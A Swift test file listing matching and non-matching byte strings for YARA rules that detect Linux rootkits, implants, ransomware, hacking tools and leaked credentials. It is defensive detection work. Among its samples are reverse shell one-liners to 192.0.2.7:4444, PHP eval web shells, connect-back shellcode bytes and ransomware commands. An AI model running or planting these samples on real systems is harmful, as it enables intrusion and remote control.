/// One case for each rule of data/yara. The bytes are put together from parts, so that this file is nothing that a scan of a disk finds.
enum ShippedRuleCases {
  typealias Case = ShippedRulesTests.Case

  static let all: [Case] = rootkits + libraries + implants + lockers + tools + secrets

  /// Texts one behind the other, as a table of strings has them.
  private static func table(_ texts: String...) -> String { texts.joined(separator: "\0") + "\0" }

  static let rootkits: [Case] = [
    Case(
      "Diamorphine",
      [
        "diamorphine" + "_secret", table("author=" + "m0nad", "description=" + "LKM rootkit"),
        table("hacked_" + "getdents64", "hacked_" + "kill"),
      ],
      not: ["diamorphine", table("author=" + "m0nad"), table("hacked_" + "getdents64x", "hacked_" + "kill"), "diamorphine" + "-secret"]),
    Case(
      "Reptile",
      [
        "#<" + "reptile>\nmodule\n#</" + "reptile>", "/reptile" + "/reptile_cmd hide", "/lib/udev/reptile" + "/reptile_shell",
        table("khook_" + "inet_ioctl", "khook_" + "ip_rcv"),
      ],
      not: [
        "#<" + "reptile>", "reptile_cmd", "/reptiles/", table("khook_" + "inet_ioctl"),
        table("khook_" + "inet_ioctls", "khook_" + "ip_rcv"),
      ]),
    Case(
      "Suterusu",
      [
        table("n_tcp4" + "_seq_show", "n_inet" + "_ioctl", "hide_tcp4" + "_port"),
        table("hijack" + "_pause", "unhide_udp6" + "_port", "n_root" + "_iterate"),
      ],
      not: [table("tcp4_seq_show", "inet_ioctl", "tcp4_port"), table("n_tcp4" + "_seq_show", "n_inet" + "_ioctl")]),
    Case(
      "Pumakit", [table("Kitsune" + " PID %ld", "PUMA" + " %s"), table("kit_so" + "_len", ".puma" + "-config")],
      not: [table("Kitsune" + " PID %ld"), table("PUMA %d", "Kitsune PID %d", "puma-config")]),
    Case(
      "Drovorub", [table("clientkey" + "_base64", "file_list" + "_request", "net_list" + "_request")],
      not: [
        table("clientkey" + "_base64"), table("file_list" + "_request", "net_list" + "_request", "auth.pending"),
        table("clientkey" + "_base64", "net_list" + "_request"),
      ]),
    Case("Ebpfkit", ["github.com/Gui774ume/" + "ebpfkit/cmd"], not: ["github.com/Gui774ume/" + "ebpfkit-monitor/pkg", "ebpfkit/"]),
  ]

  static let libraries: [Case] = [
    Case(
      "Azazel",
      bytes: [Array(("HIDE_THIS" + "_SHELL=x\0PATH=/bin").utf8), ("HIDE_THIS" + "_SHELL").utf8.map { $0 ^ 0xFE }],
      not: [Array("HIDE_THIS_SHELF=x".utf8), ("HIDE_THIS" + "_SHELL").utf8.map { $0 ^ 0x22 }]),
    Case(
      "HiddenWasp",
      [
        "PATH=/bin\0I_AM" + "_HIDDEN=1\0", table("I_AM" + "_HIDDEN", "tmp.scp." + "XXXXXX"),
        table("/lib/libse1" + "inux.so", "fake_" + "processname"),
      ],
      not: [table("I_AM" + "_HIDDEN"), table("I_AM" + "_HIDDENS", "tmp.scp." + "XXXXXX"), "/lib/libselinux.so"]),
    Case(
      "Symbiote", [table("certbot" + "x64", "javaserver" + "x64", "javanode" + "x86")],
      not: [table("certbot" + "x64", "javaserver" + "x64"), table("certbot", "javaserver", "javaclient", "javanode")]),
    Case(
      "Libprocesshider", [table("process_to" + "_filter", "original_" + "readdir"), table("process_to" + "_filter", "Error in dlsym: %s")],
      not: [table("process_to" + "_filter"), table("process_to_filters", "original_" + "readdir")]),
  ]

  private static let connect: [UInt8] = [0x6A, 0x29, 0x58, 0x99, 0x6A, 0x02, 0x5F, 0x6A, 0x01, 0x5E, 0x0F, 0x05]
  private static let liblzma: [UInt8] = [
    0xF3, 0x0F, 0x1E, 0xFA, 0x55, 0x48, 0x89, 0xF5, 0x4C, 0x89, 0xCE, 0x53, 0x89, 0xFB, 0x81, 0xE7, 0x00, 0x00, 0x00, 0x80, 0x48, 0x83,
    0xEC,
    0x28, 0x48, 0x89, 0x54, 0x24, 0x18, 0x48, 0x89, 0x4C, 0x24, 0x10,
  ]
  /// Type of connection 8, port 443, pause of a minute.
  private static let beacon: [UInt8] = [
    0, 1, 0, 1, 0, 2, 0, 8, 0, 2, 0, 1, 0, 2, 1, 0xBB, 0, 3, 0, 2, 0, 4, 0, 0, 0xEA, 0x60,
  ]

  static let implants: [Case] = [
    Case(
      "BPFDoor",
      [
        table("/var/run/" + "haldrund.pid", "kdmtmp" + "flush"),
        table("/sbin/iptables -t nat -A PREROUTING -p tcp " + "-s %s --dport %d -j REDIRECT --to-ports %d", "kdmtmp" + "flush"),
      ],
      not: [
        table("/var/run/" + "haldrund.pid"), table("/var/run/hald.pid", "kdmtmp" + "flush"),
        "/sbin/iptables -t nat -A PREROUTING -p tcp -s 10.0.0.1 --dport 22 -j REDIRECT --to-ports 42391",
      ]),
    Case(
      "XZ_Backdoor", bytes: [liblzma], not: [Array(liblzma.dropLast()), liblzma.enumerated().map { $0 == 20 ? $1 ^ 1 : $1 }]),
    Case(
      "RedXOR", ["/root/.po1" + "kitd-update-k", ".po1" + "kitd.thumb"],
      not: ["polkitd-update", "/usr/lib/polkit-1/polkitd", ".polkitd.thumb"]),
    Case(
      "Meterpreter", [table("core_negotiate" + "_tlv_encryption", "core_machine" + "_id", "core_" + "migrate")],
      not: [
        table("core_negotiate" + "_tlv_encryption", "core_machine" + "_id"),
        table("core_machine_ids", "core_migrated", "core_channel_opened"),
      ]),
    Case(
      "Shellcode_Connect_Back_x64", bytes: [connect + [0x48, 0x97], connect + [0x48, 0x85, 0xC0]],
      not: [connect, connect.enumerated().map { $0 == 1 ? 0x2A : $1 } + [0x48, 0x97]]),
    Case(
      "Sliver", ["github.com/bishopfox/" + "sliver/protobuf/sliverpb.File", "github.com/bishopfox/" + "sliver/implant/sliver/transports"],
      not: ["github.com/bishopfox/" + "sliver", "github.com/bishopfox/cloudfox/protobuf/sliverpb"]),
    Case(
      "Merlin", ["github.com/Ne0nd0g/" + "merlin/pkg/agent", "github.com/Ne0nd0g/" + "merlin-agent/v2/commands"],
      not: ["github.com/Ne0nd0g/" + "merlin-documentation", "github.com/Ne0nd0g/ja3transport"]),
    Case(
      "Poseidon", ["github.com/MythicAgents/" + "poseidon/Payload_Type"],
      not: ["github.com/MythicAgents/poseidonX", "github.com/MythicAgents/apollo/"]),
    Case(
      "Cobalt_Strike_Configuration", bytes: [beacon, beacon.map { $0 ^ 0x2E }, beacon.map { $0 ^ 0x69 }],
      not: [Array(beacon.prefix(20)), beacon.map { $0 ^ 0x11 }, beacon.enumerated().map { $0 == 17 ? 4 : $1 }]),
    Case(
      "Cobalt_Strike_Beacon", [table("beacon." + "x64.dll", "could not spawn " + "%s (token): %d")],
      not: [table("beacon." + "x64.dll"), table("beacon.x64.dlls", "could not spawn " + "%s (token): %d"), "could not spawn %s: %d"]),
    Case(
      "Mirai", bytes: [("listening" + " tun0").utf8.map { $0 ^ 0x22 }, ("/bin/busybox" + " MIRAI").utf8.map { $0 ^ 0x22 }],
      not: [Array("listening tun0".utf8), ("listening" + " tun0").utf8.map { $0 ^ 0x23 }]),
    Case(
      "Reverse_Shell_Command",
      [
        "bash -i >& " + "/dev/tcp/192.0.2.7/4444 0>&1",
        "s.socket(socket.AF_INET,socket." + "SOCK_STREAM);s.connect((\"192.0.2.7\",4444));os.dup2(s.fileno(),0)",
        "rm /tmp/f;mkfifo " + "/tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.7 4444 >/tmp/f",
      ],
      not: ["bash -i >& /dev/null", "exec 3<>/dev/tcp/192.0.2.7/80", "mkfifo /tmp/f; cat /tmp/f | sort", "s.connect((\"192.0.2.7\",4444))"]),
    Case(
      "Web_Shell_PHP", ["<?php " + "@eval($_POST['x']);?>", "<?PHP\n" + "system($_GET[\"c\"]);"],
      not: ["<?php echo $_POST['x'];", "<?php eval($code);", "eval($_POST['x'])"]),
  ]

  static let lockers: [Case] = [
    Case(
      "ESXiArgs_Encryptor",
      [
        "usage: encrypt <public_key> " + "<file_to_encrypt> [<enc_step>] [<enc_size>] [<file_size>]",
        table("get_pk_data: " + "key file is empty", "encrypt_bytes: " + "too big data"),
      ],
      not: ["usage: encrypt <public_key> <file_to_encrypt>", table("encrypt_bytes: " + "too big data")]),
    Case(
      "ESXiArgs_Script",
      [
        "echo \"START ENCRYPT: $file_e " + "SIZE: $size_kb STEP SIZE: $size_step\"",
        "nohup $CLEAN_DIR/encrypt $CLEAN_DIR" + "/public.pem \"$file_e\" 1",
      ],
      not: ["START ENCRYPT: disk.vmdk SIZE: 10", "$CLEAN_DIR/encrypt"]),
    Case(
      "Babuk_ESXi", [table("Doesn't " + "encrypted files: %d", "Skipped " + "files: %d")],
      not: [table("Doesn't " + "encrypted files: %d"), table("Whole files count: %d", "Skipped " + "files: %d", "Encrypted files: %d")]),
    Case(
      "HelloKitty_ESXi", [table("esxcli vm process kill -t=" + "soft -w=%d", "esxcli vm process kill -t=" + "force -w=%d")],
      not: ["esxcli vm process kill -t=" + "soft -w=%d", "esxcli vm process kill -t=soft -w=2100", "esxcli vm process list"]),
    Case(
      "Black_Basta_ESXi",
      ["Done time: %.4f seconds, " + "encrypted: %.4f gb", table("fileEncryption" + "Percent", "fileQueue" + "Locker")],
      not: ["Done time: %.2f seconds", table("fileQueue" + "Locker")]),
  ]

  static let tools: [Case] = [
    Case("XMRig", ["donate.ssl." + "xmrig.com", "pool=donate.v2." + "xmrig.com:3333"], not: ["https://xmrig.com", "donate.xmrig.com"]),
    Case(
      "Kinsing", ["/tmp/kdev" + "tmpfsi", table("main.redis" + "Brute", "main.mass" + "can")],
      not: ["kdevtmpfs", table("main.mass" + "can"), "/tmp/kdevtmpfs"]),
    Case(
      "Chisel", ["github.com/jpillora/" + "chisel/server.(*Server).Start"],
      not: ["github.com/jpillora/" + "chisel", "github.com/jpillora/backoff/client"]),
    Case("Pspy", ["github.com/dominicbreuker/" + "pspy/cmd"], not: ["github.com/dominicbreuker/goncat/"]),
    Case("Traitor", ["github.com/liamg/" + "traitor/pkg/exploits"], not: ["github.com/liamg/tml/", "liamg/traitor"]),
    Case("CDK", ["github.com/cdk-team/" + "CDK/pkg/exploit"], not: ["github.com/aws/aws-cdk/", "github.com/cdk-team/CDK.git"]),
    Case(
      "UPX_Packed", ["UPX!\0\0$Info: This file is packed with the UPX " + "executable packer http://upx.sf.net $\n"],
      not: ["UPX!", "This file is packed with the UPX executable packer"]),
  ]

  private static let line = String(repeating: "Ab3+", count: 16)

  static let secrets: [Case] = [
    Case(
      "Private_Key_PEM",
      [
        "-----BEGIN RSA PRIVATE " + "KEY-----\nMII" + line.prefix(61) + "\n",
        "-----BEGIN PRIVATE " + "KEY-----\nMC4CAQ" + line.prefix(58) + "\n",
        "-----BEGIN EC PRIVATE " + "KEY-----\r\nMHcC" + line.prefix(60) + "\r\n",
        "-----BEGIN OPENSSH PRIVATE " + "KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5v" + "bmUAAAAEbm9uZQAAAA",
      ],
      not: [
        "-----BEGIN RSA PRIVATE KEY-----", "-----BEGIN ENCRYPTED PRIVATE KEY-----\nMII" + line.prefix(61) + "\n",
        "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n", "-----BEGIN CERTIFICATE-----\nMII" + line.prefix(61) + "\n",
        // aes256-ctr with bcrypt.
        "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAACmFlczI1Ni1jdHIAAAAGYmNyeXB0",
        "-----BEGIN RSA PRIVATE KEY-----\nMIIEogIBAAKCAQEA6yCv+BLrRP/dMPBXJWK21c0aqxIX6JkODL4K+zlyEURt8/Wp\n",
      ]),
    Case(
      "AWS_Key",
      [
        "aws_access_key_id = AKIA" + "IOSFODNN7ABCDEFG\naws_secret_access_key = " + line.prefix(40),
        "HOME=/root\0AWS_SECRET" + "_ACCESS_KEY=" + line.prefix(40) + "\0",
      ],
      not: ["AKIAIOSFODNN7EXAMPLE", "AWS_SECRET_ACCESS_KEY=", "aws_access_key_id = AKIA1\naws_secret_access_key = x"]),
    Case(
      "GitHub_Token",
      [
        "token=ghp" + "_" + String(repeating: "aB3", count: 12),
        "github" + "_pat_" + String(repeating: "a", count: 22) + "_" + String(repeating: "B", count: 59),
      ],
      not: ["ghp_short", "xghp_" + String(repeating: "aB3", count: 12), "ghp_" + String(repeating: "aB3", count: 13)]),
    Case(
      "Google_Service_Account",
      [
        "{\"private_key_id\": \"" + String(repeating: "0a", count: 20) + "\"}",
        "\"private_key\": \"-----BEGIN PRIVATE " + "KEY-----\\nMII" + line.prefix(62) + "\"",
      ],
      not: ["\"private_key_id\": \"none\"", "\"private_key\": \"-----BEGIN PRIVATE KEY-----\\n\""]),
  ]
}
